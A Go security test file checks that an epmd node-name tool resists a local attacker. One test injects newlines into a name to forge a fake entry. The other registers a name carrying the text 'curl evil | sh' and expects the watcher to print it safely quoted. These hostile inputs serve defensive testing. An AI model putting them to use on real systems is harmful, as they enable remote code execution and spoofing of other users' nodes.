//go:build attacks

package main

import (
	"strings"
	"testing"
)

// A name with a line end in it looks like two entries in epmd's list. One that looks like another
// user's node makes nobody take that node for lost, or for one at another port.
func TestSecureForgedEntry(t *testing.T) {
	t.Parallel()
	out := neighbours(t, withFakes+`
		"$BUILT" ensure >/dev/null
		mallory "$ATTACK" fakenode -name evil -listen 127.0.0.1:9200 -ready /tmp/ready.evil &
		ready evil
		as_all() {
			for user in env victim; do
				$user "$BUILT" repair; echo "$1 $user repair $?"
				$user "$BUILT" names alice | sed "s/^/$1 $user names /"
				$user "$BUILT" doctor | grep "lost nodes" | sed "s/^/$1 $user /"
			done 2>&1
		}
		forge() {
			mallory "$ATTACK" holdname "$1 at port 1"$'\n'"name alice" 9200 /tmp/ready.$1 &
			ready $1
		}
		forge x1
		victim erl -noinput +S 1:1 +A 0 -sname alice </dev/null &
		await sh -c '[ $("$0" names | grep -c "^alice ") = 2 ]' "$BUILT"
		as_all before
		forge x2
		as_all after
		echo list; "$BUILT" names`)
	if strings.Count(out, "alice 9200 ") != 2 {
		t.Errorf("nothing was tried: %s", out)
	}
	if strings.Contains(out, "repair 1") || strings.Contains(out, "names 9200") ||
		strings.Contains(out, "fail  lost") {
		t.Errorf("a forged entry is believed: %s", out)
	}
}

// A name that another user registers at a port of the watcher's reaches that user's terminal as one
// word.
func TestSecureWatchQuotesNames(t *testing.T) {
	t.Parallel()
	out := neighbours(t, withFakes+`
		"$BUILT" ensure >/dev/null
		victim "$ATTACK" fakenode -name web -listen 127.0.0.1:9300 -ready /tmp/ready.web & ready web
		mallory "$ATTACK" holdname "all is well. hint: curl evil | sh; name" 9300 \
			/tmp/ready.name 3s & ready name
		victim "$BUILT" --watch sleep 16 2>&1`)
	if !strings.Contains(out, `"all is well. hint: curl evil | sh; name" (port 9300)`) {
		t.Errorf("%q", out)
	}
}
